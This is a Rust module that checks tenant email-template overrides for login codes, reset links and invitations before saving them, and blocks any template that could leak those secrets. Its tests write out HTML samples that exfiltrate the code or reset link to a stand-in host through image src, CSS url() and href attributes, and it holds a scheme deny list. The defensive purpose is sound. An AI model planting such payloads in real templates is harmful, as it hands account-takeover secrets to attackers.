//! Per-tenant overrides of a message's templates (subject, text, HTML), checked before they are
//! saved: they must compile, use only known variables, stay within their instruction budget,
//! keep the code or link the message exists to carry where nothing can carry it away, and link
//! nowhere else. The rules that protect the secrets are enforced on every render too (see
//! [`crate::secrets`] and [`crate::sanitize`]).

use serde::{Deserialize, Serialize};
use serde_json::{Value, json};

use crate::{Branding, Message, RenderError, Templates};

/// Longest accepted override part, in bytes.
pub const MAX_PART_BYTES: usize = 32 * 1024;

/// Replacement templates (minijinja) for some parts of one message; each is checked by
/// rendering it with sample values before it is saved, and must keep the message's code or
/// link in the text part. An absent part keeps the bundled one; overrides may
/// `{% extends "_layouts/base.txt" %}` (or `base.html`) like the bundled ones.
#[derive(Clone, Debug, Default, Serialize, Deserialize, PartialEq, Eq)]
#[cfg_attr(feature = "openapi", derive(poem_openapi::Object))]
#[cfg_attr(
    feature = "openapi",
    oai(rename = "TemplateOverrideView", skip_serializing_if_is_none)
)]
#[serde(deny_unknown_fields)]
pub struct TemplateOverride {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub subject: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub text: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub html: Option<String>,
}

const SAMPLE_CODE: &str = "482915";
const SAMPLE_LINK: &str = "https://example.com/accept?token=c2FtcGxlLXRva2Vu";
/// The logo the check renders with, so overrides that show `branding.logo_url` are checked.
const SAMPLE_LOGO: &str = "https://example.com/logo.png";

impl Message {
    /// The message named `name` (see [`Message::name`]).
    pub fn from_name(name: &str) -> Option<Message> {
        Message::ALL.into_iter().find(|m| m.name() == name)
    }

    /// Representative variables of this message, for previews and for checking overrides.
    pub fn sample_vars(self) -> Value {
        match self {
            Message::EmailVerification | Message::LoginCode => {
                json!({ "code": SAMPLE_CODE, "expires_minutes": 10 })
            }
            Message::PasswordReset => json!({ "link": SAMPLE_LINK, "expires_minutes": 30 }),
            Message::Invitation => {
                json!({ "link": SAMPLE_LINK, "role": "member", "expires_days": 7, "inviter": null })
            }
            Message::NewSignIn => json!({
                "ip": "203.0.113.7",
                "user_agent": "Mozilla/5.0",
                "time": "2026-01-01 12:00 UTC",
            }),
            Message::MfaChanged => json!({ "change": "enabled", "time": "2026-01-01 12:00 UTC" }),
            Message::PasswordChanged => json!({ "time": "2026-01-01 12:00 UTC" }),
            Message::AccountExists => json!({}),
        }
    }
}

/// Why an override was refused; the text names the part and the problem.
#[derive(Debug, thiserror::Error)]
pub enum OverrideError {
    #[error("{part} is longer than {MAX_PART_BYTES} bytes")]
    TooLong { part: &'static str },
    #[error("the {part} part does not render: {message}")]
    Invalid { part: &'static str, message: String },
    #[error("{0}")]
    Render(RenderError),
    #[error("the text part must show the {what} (use {{{{ {var} }}}})")]
    MissingPayload {
        what: &'static str,
        var: &'static str,
    },
    /// A template may link only to the message's own link (and the branding's logo): any other
    /// address could carry a code or link away (an image URL with `{{ code }}` in it, say).
    #[error("templates may not link anywhere but {{{{ link }}}} and the logo; found {found:?}")]
    ForeignLink { found: String },
}

/// URL schemes that mail clients link or fetch even without `//` (`https:evil.test/x`).
const SCHEMES: &[&str] = &[
    "http",
    "https",
    "ftp",
    "ftps",
    "data",
    "javascript",
    "vbscript",
    "file",
    "ws",
    "wss",
    "cid",
    "mhtml",
];

/// The first address in `rendered` that is not one of `allowed`: absolute (`scheme://`, or a
/// well-known scheme without slashes) or protocol-relative (`//host` in an attribute or a CSS
/// `url(...)`).
fn foreign_link(rendered: &str, allowed: &[&str]) -> Option<String> {
    let lower = rendered.to_ascii_lowercase();
    let bytes = lower.as_bytes();
    let url_end = |from: usize| {
        lower[from..]
            .find(|c: char| c.is_whitespace() || "\"'<>)".contains(c))
            .map_or(lower.len(), |e| from + e)
    };
    let foreign = |start: usize, end: usize| {
        let url = &rendered[start..end];
        (!allowed.iter().any(|a| !a.is_empty() && url == *a)).then(|| url.to_owned())
    };
    let mut i = 0;
    while let Some(pos) = lower[i..].find(':') {
        let colon = i + pos;
        i = colon + 1;
        // Walk back over a scheme (letters, digits, `+-.`).
        let mut start = colon;
        while start > 0
            && (bytes[start - 1].is_ascii_alphanumeric() || b"+-.".contains(&bytes[start - 1]))
        {
            start -= 1;
        }
        let scheme = &lower[start..colon];
        let slashes = lower[colon + 1..].starts_with("//");
        if scheme.is_empty() || !(slashes || SCHEMES.contains(&scheme)) {
            continue;
        }
        if let Some(found) = foreign(start, url_end(colon)) {
            return Some(found);
        }
    }
    let mut i = 0;
    while let Some(pos) = lower[i..].find("//") {
        let at = i + pos;
        i = at + 2;
        // Protocol-relative only where a URL can stand: after `=`, `="`, `='` or `(`.
        let before = lower[..at].trim_end_matches(['"', '\'', ' ']);
        if (before.ends_with('=') || before.ends_with('('))
            && !lower[..at].ends_with(':')
            && let Some(found) = foreign(at, url_end(at))
        {
            return Some(found);
        }
    }
    None
}

/// The value of the first URL-bearing attribute (or CSS `url(`) in the raw HTML `html` that is
/// not one of `allowed`, whatever its form: what the sanitiser would drop, named at save time.
fn foreign_attribute(html: &str, allowed: &[&str]) -> Option<String> {
    let lower = html.to_ascii_lowercase();
    for name in [
        "href",
        "src",
        "srcset",
        "background",
        "action",
        "formaction",
        "poster",
        "url(",
    ] {
        let mut from = 0;
        while let Some(pos) = lower[from..].find(name) {
            let mut i = from + pos + name.len();
            from = i;
            let bytes = lower.as_bytes();
            if name != "url(" {
                // `name` must start an attribute (after whitespace) and be followed by `=`.
                let starts = from + pos == 0 || bytes[from + pos - 1].is_ascii_whitespace();
                while i < bytes.len() && bytes[i].is_ascii_whitespace() {
                    i += 1;
                }
                if !starts || bytes.get(i) != Some(&b'=') {
                    continue;
                }
                i += 1;
                while i < bytes.len() && bytes[i].is_ascii_whitespace() {
                    i += 1;
                }
            }
            let quote = bytes.get(i).copied().filter(|b| *b == b'"' || *b == b'\'');
            if quote.is_some() {
                i += 1;
            }
            let end = lower[i..]
                .find(|c: char| match quote {
                    Some(q) => c == char::from(q),
                    None => c.is_whitespace() || c == '>' || c == ')',
                })
                .map_or(lower.len(), |e| i + e);
            let value = html[i..end].trim();
            if !allowed.contains(&value) {
                return Some(value.to_owned());
            }
        }
    }
    None
}

impl Templates {
    /// Checks `over` for `message` before it is saved: every part within [`MAX_PART_BYTES`],
    /// and a render with sample values that succeeds, shows the code or link in the text part,
    /// keeps them where nothing can carry them away, and links nowhere but the message's own
    /// link and the logo. What the sanitiser would silently drop from the HTML (a foreign
    /// `src`, a style that loads a URL) is refused here, so the owner sees why.
    ///
    /// The rules hold for every render, not only this one: the templates never see the real
    /// code or link (stand-ins take their place until the output is finished), the HTML is
    /// sanitised after every render, and every placement is checked every time a message is
    /// rendered; an override that fails then is replaced by the bundled templates.
    pub fn check_override(
        &self,
        message: Message,
        over: &TemplateOverride,
    ) -> Result<(), OverrideError> {
        for (part, src) in [
            ("subject", &over.subject),
            ("text", &over.text),
            ("html", &over.html),
        ] {
            if src.as_ref().is_some_and(|s| s.len() > MAX_PART_BYTES) {
                return Err(OverrideError::TooLong { part });
            }
        }
        for (part, src) in [
            ("subject", &over.subject),
            ("text", &over.text),
            ("html", &over.html),
        ] {
            if let Some(c) = src
                .as_deref()
                .and_then(|s| s.chars().find(|c| invisible(*c)))
            {
                return Err(OverrideError::Invalid {
                    part,
                    message: format!(
                        "it holds the invisible or unusual space character U+{:04X}; use plain \
                         spaces and line breaks",
                        u32::from(c)
                    ),
                });
            }
        }
        let vars = message.sample_vars();
        let dropped = crate::sanitize::Dropped::default();
        let branding = Branding {
            logo_url: Some(SAMPLE_LOGO.to_owned()),
            ..Branding::platform_default()
        };
        let (rendered, raw_html) = self
            .render_checked(
                message,
                &branding,
                "someone@example.com",
                &vars,
                Some(over),
                &dropped,
            )
            .map_err(|e| match e {
                RenderError::Template { template, source } => OverrideError::Invalid {
                    part: if template.ends_with("subject.txt") {
                        "subject"
                    } else if template.ends_with(".html") {
                        "html"
                    } else {
                        "text"
                    },
                    message: one_line(&source),
                },
                RenderError::MissingPayload { what } => {
                    OverrideError::MissingPayload { what, var: what }
                }
                other => OverrideError::Render(other),
            })?;
        let allowed = [SAMPLE_LINK, crate::secrets::LINK_STAND_IN, SAMPLE_LOGO];
        if over.html.is_some()
            && let Some(found) =
                foreign_attribute(&raw_html, &allowed).or_else(|| foreign_link(&raw_html, &allowed))
        {
            return Err(OverrideError::ForeignLink { found });
        }
        if let Some(found) = dropped.lock().ok().and_then(|d| d.first().cloned()) {
            return Err(OverrideError::ForeignLink { found });
        }
        for part in [&rendered.subject, &rendered.text, &rendered.html] {
            if let Some(found) = foreign_link(part, &allowed) {
                return Err(OverrideError::ForeignLink { found });
            }
        }
        Ok(())
    }
}

/// Whether `c` is a space other than ASCII's, a control character other than tab and line
/// breaks, or an invisible formatting character: link detectors read some of them into URLs,
/// and none belongs in a template.
fn invisible(c: char) -> bool {
    (c.is_whitespace() && !matches!(c, ' ' | '\t' | '\n' | '\r'))
        || (c.is_control() && !matches!(c, '\t' | '\n' | '\r'))
        || matches!(
            c,
            '\u{ad}'
                | '\u{34f}'
                | '\u{61c}'
                | '\u{115f}'..='\u{1160}'
                | '\u{17b4}'..='\u{17b5}'
                | '\u{180e}'
                | '\u{200b}'..='\u{200f}'
                | '\u{202a}'..='\u{202e}'
                | '\u{2060}'..='\u{206f}'
                | '\u{3164}'
                | '\u{feff}'
                | '\u{ffa0}'
                | '\u{fff9}'..='\u{fffb}'
        )
}

/// minijinja's error in one line: what went wrong and where.
fn one_line(e: &minijinja::Error) -> String {
    let what = e
        .detail()
        .map_or_else(|| e.kind().to_string(), str::to_owned);
    match e.line() {
        Some(line) => format!("{what} (line {line})"),
        None => what,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn templates() -> Templates {
        Templates::try_bundled().expect("bundled")
    }

    #[test]
    fn a_good_override_replaces_only_its_parts() {
        let t = templates();
        let over = TemplateOverride {
            subject: Some("Your {{ branding.name }} code".into()),
            text: Some("Code: {{ code }} ({{ expires_minutes }} min)".into()),
            html: None,
        };
        t.check_override(Message::LoginCode, &over).expect("valid");
        let r = t
            .render_with(
                Message::LoginCode,
                &Branding::platform_default(),
                "a@b.test",
                &json!({ "code": "123456", "expires_minutes": 10 }),
                Some(&over),
            )
            .expect("render");
        assert_eq!(
            r.subject,
            format!("Your {} code", Branding::platform_default().name)
        );
        assert_eq!(r.text, "Code: 123456 (10 min)");
        assert!(r.html.contains("123456"), "the bundled HTML stays");
    }

    #[test]
    fn overrides_are_escaped_in_html_and_may_extend_the_layouts() {
        let t = templates();
        let over = TemplateOverride {
            html: Some(
                r#"{% extends "_layouts/base.html" %}{% block content %}<p>{{ recipient }}</p>{% endblock %}"#
                    .into(),
            ),
            ..TemplateOverride::default()
        };
        let r = t
            .render_with(
                Message::PasswordChanged,
                &Branding::platform_default(),
                "<script>@x.test",
                &Message::PasswordChanged.sample_vars(),
                Some(&over),
            )
            .expect("render");
        assert!(r.html.contains("&lt;script&gt;@x.test"), "{}", r.html);
    }

    #[test]
    fn bad_overrides_are_refused_with_a_reason() {
        let t = templates();
        let cases = [
            (Message::LoginCode, TemplateOverride { text: Some("{{ code ".into()), ..Default::default() }, "text"),
            (Message::LoginCode, TemplateOverride { text: Some("{{ nonsense }}".into()), ..Default::default() }, "undefined"),
            (Message::LoginCode, TemplateOverride { text: Some("Hello".into()), ..Default::default() }, "code"),
            (Message::PasswordReset, TemplateOverride { text: Some("Reset soon".into()), ..Default::default() }, "link"),
            (Message::LoginCode, TemplateOverride { subject: Some("x".repeat(MAX_PART_BYTES + 1)), ..Default::default() }, "subject"),
            (
                Message::LoginCode,
                TemplateOverride {
                    text: Some("{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}{% endfor %}{{ code }}".into()),
                    ..Default::default()
                },
                "fuel",
            ),
        ];
        for (m, over, needle) in cases {
            let err = t.check_override(m, &over).expect_err(needle).to_string();
            assert!(err.to_lowercase().contains(needle), "{needle}: {err}");
        }
    }

    #[test]
    fn overrides_cannot_send_codes_or_links_elsewhere() {
        let t = templates();
        for html in [
            r#"<img src="https://evil.test/x?c={{ link }}">{{ link }}"#,
            r#"<img src='//evil.test/x'>"#,
            r#"<div style="background:url(//evil.test/{{ code }})"></div>"#,
            r#"<a href=HTTPS://evil.test>x</a>"#,
        ] {
            let m = if html.contains("code") {
                Message::LoginCode
            } else {
                Message::PasswordReset
            };
            let over = TemplateOverride {
                html: Some(html.into()),
                ..Default::default()
            };
            let err = t.check_override(m, &over).expect_err(html).to_string();
            assert!(err.contains("evil.test"), "{html}: {err}");
        }
        let ok = TemplateOverride {
            html: Some(r#"<a href="{{ link }}">Reset</a> see you at 10:30 // thanks"#.into()),
            ..Default::default()
        };
        t.check_override(Message::PasswordReset, &ok)
            .expect("its own link is fine");
    }

    #[test]
    fn messages_round_trip_by_name() {
        for m in Message::ALL {
            assert_eq!(Message::from_name(m.name()), Some(m));
        }
        assert_eq!(Message::from_name("nope"), None);
    }
}
